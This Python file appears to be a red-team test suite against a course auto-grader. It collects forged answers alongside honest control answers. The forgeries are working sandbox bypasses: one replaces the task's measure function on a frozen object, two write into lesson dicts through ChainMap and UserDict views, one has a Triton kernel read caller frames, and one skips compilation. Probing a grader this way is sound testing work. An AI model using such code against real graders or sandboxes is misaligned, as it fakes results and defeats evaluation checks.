"""Forging answers for fix-type tasks (fourth red team, session 25). Each is the student's answer cell.
REPORT4.md says why each works."""
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from fix_attacks3 import LESSON_EXEC  # noqa: E402

ATTACKS = {}

# Unrestricted code: the task's Fix entry stays the same object (the seal compares harness.TASKS'
# entries by identity), but its `measure` field is replaced in place (object.__setattr__ ignores
# frozen=True); the fake measure meets every trusted rule, as the third red team's FORGE did.
FORGE4 = r'''
import sys
H = sys.modules["labkit.grading.harness"]
old = H.TASKS[TASK]

def fake(params, ns, ctx):
    found, lo, hi = {}, {}, {}
    for r in old.rules(params, ctx):
        f, k = r["field"], r["rule"]
        if r.get("hint"):
            continue
        if k in ("close", "close_all"):
            found[f] = r["want"]
        elif k == "eq":
            found[f] = r["value"]
        elif k == "true":
            found[f] = True
        elif k == "none_contains":
            found.setdefault(f, [])
        elif k == "any_contains":
            found[f] = [r["text"]]
        elif k == "at_least":
            lo[f] = max(lo.get(f, r["value"]), r["value"])
        elif k == "at_most":
            hi[f] = min(hi.get(f, r["value"]), r["value"])
    for f in set(lo) | set(hi):
        found.setdefault(f, lo.get(f, hi.get(f)))
    return found

object.__setattr__(old, "measure", fake)
'''


def forge_chainmap(task: str, names: tuple[str, ...]) -> str:
    """F3 again: the lesson dict changed through a collections.ChainMap over it (the method guard
    checks the ChainMap, which no module holds; ChainMap.update writes into maps[0], the lesson's
    dict), then the lesson's builder exec()s the new statement."""
    table, call = LESSON_EXEC[task]
    line = f"exec({('TASK = ' + repr(task) + chr(10) + FORGE4)!r}, {{}}); k = 1"
    stubs = "".join(f"\n\ndef {n}(*args):\n    pass\n" for n in names)
    return (f"import torch\nimport collections\n\ncollections.ChainMap({table}).update({{'rt4': {line!r}}})\n"
            f"{call.format(key='rt4')}\n" + stubs)


NAMES = {"3.3": ("ScorerFixed",), "4.1": ("softplus",), "10.2": ("pooled_fixed", "prepare"),
         "11.2": ("block_lean",)}
for _task in LESSON_EXEC:
    ATTACKS[_task, "chainmap_update"] = forge_chainmap(_task, NAMES[_task])


def forge_userdict(task: str, names: tuple[str, ...]) -> str:
    """The same, through the answer's own UserDict subclass whose `data` is the lesson's dict: the
    item guard sees the answer's own object and lets the store through; UserDict.__setitem__
    writes into `data`."""
    table, call = LESSON_EXEC[task]
    line = f"exec({('TASK = ' + repr(task) + chr(10) + FORGE4)!r}, {{}}); k = 1"
    stubs = "".join(f"\n\ndef {n}(*args):\n    pass\n" for n in names)
    return (f"import torch\nimport collections\n\n\nclass View(collections.UserDict):\n"
            f"    def __init__(self, d):\n        self.data = d\n\n\n"
            f"View({table})['rt4'] = {line!r}\n"
            f"{call.format(key='rt4')}\n" + stubs)


for _task in LESSON_EXEC:
    ATTACKS[_task, "userdict_view"] = forge_userdict(_task, NAMES[_task])


# 7.1: Triton 3.9's interpreter re-reads the kernel's *source* (inspect.getsourcelines) and
# compiles it again without labkit's rewrite (no run-time guards), and copies its own module's
# globals into the kernel's globals first: `inspect`, `partial`, `np`, ... become names the kernel
# body can use (the policy refuses names only if they are builtins it lists). inspect.stack() and
# inspect.getmembers(frame) read each caller's locals without spelling a refused attribute; the
# instructor's launcher holds `out` and `x`: filled with x.softmax(-1). The kernel computes nothing.
ATTACKS["7.1", "interpreter_inspect"] = '''
import triton
import triton.language as tl


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    for info in inspect.stack():
        for name, loc in inspect.getmembers(info.frame):
            if name == "f_locals" and "out" in loc and "x" in loc and "block" in loc:
                loc["out"].copy_(loc["x"].softmax(-1))
'''
ATTACKS["7.1", "interpreter_inspect_control"] = '''
import triton
import triton.language as tl


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    for info in []:
        for name, loc in inspect.getmembers(info.frame):
            if name == "f_locals" and "out" in loc and "x" in loc and "block" in loc:
                loc["out"].copy_(loc["x"].softmax(-1))
'''


# -- honest answers (graded like the forgeries) ---------------------------------------------------
sys.path.insert(0, str(Path(__file__).resolve().parent))
from honest3 import HONEST as _H3  # noqa: E402

HONEST = {}
# 7.1: a module constant written as Triton's docs also write it (`NAME = tl.constexpr(value)`, not
# annotated): restrict._jit_helper keeps only annotated constexprs
HONEST["7.1", "constexpr_call"] = _H3["7.1", "jit_helper_control"].replace(
    "@triton.jit\ndef online_update", "NEG_INF = tl.constexpr(float('-inf'))\n\n\n@triton.jit\ndef online_update").replace(
    "other=-float(\"inf\")", "other=NEG_INF")
# 7.1: the kernel under triton.jit imported by name (`from triton import jit`): kept by
# _jit_helper, but is the import?
HONEST["7.1", "jit_by_name"] = _H3["7.1", "jit_helper"].replace(
    "import triton\n", "import triton\nfrom triton import jit\n").replace(
    "@triton.jit\ndef online_update", "@jit\ndef online_update")
for _k, _v in list(HONEST.items()):
    ATTACKS[_k] = _v
ATTACKS["7.1", "jit_helper_h3"] = _H3["7.1", "jit_helper"]


# 2.2 without compiling anything: the harness hands the answer its recorder backend, a plain
# function; called directly with an object that has .graph.nodes and .forward, it counts one
# "graph", and each call of the function it returns counts a "run" and is recorded for the replay,
# which then runs the answer's own eager forward (it does compute the update: the replay passes).
# Dynamo never saw a frame: no graph break. train_storm's loop, with no compile at all, passes.
ATTACKS["2.2", "direct_backend_call"] = '''
import torch


class Nodes:
    nodes = []


class FakeGraphModule:
    def __init__(self, momentum):
        self.graph = Nodes()
        self.momentum = momentum

    def forward(self, w, v, g, lr):
        v = self.momentum * v + g
        return w - lr * v, v


def train_fixed(w, grads, lrs, backend="eager", momentum=0.9):
    step = backend(FakeGraphModule(momentum), [])
    v = torch.zeros_like(w)
    norms = []
    for g, lr in zip(grads, lrs):
        w, v = step(w, v, g, lr)
        norms.append(float(v.norm()))
    return w, norms
'''

_GATE = _H3["14.1", "dim_control"].rsplit("DYNAMIC_SHAPES", 1)[0]
HONEST["14.1", "dim_imported_dynamic"] = ("from torch.export import Dim\n" + _GATE +
                                          'DYNAMIC_SHAPES = {"x": {0: Dim.DYNAMIC}}\n')
HONEST["14.1", "dim_imported_named"] = ("from torch.export import Dim\n" + _GATE +
                                        'DYNAMIC_SHAPES = {"x": {0: Dim("batch", min=2, max=64)}}\n')
HONEST["11.2", "policy_is_recompute"] = _H3["11.2", "policy_overloadpacket"].replace(
    "    if op.overloadpacket in", "    if ctx.is_recompute:\n        return CheckpointPolicy.PREFER_RECOMPUTE\n    if op.overloadpacket in")
HONEST["11.2", "policy_str_name"] = _H3["11.2", "policy_control"].replace(
    "op in (torch.ops.aten.mm.default, torch.ops.aten.addmm.default)",
    "str(op) in ('aten.mm.default', 'aten.addmm.default')")
for _k, _v in list(HONEST.items()):
    ATTACKS[_k] = _v
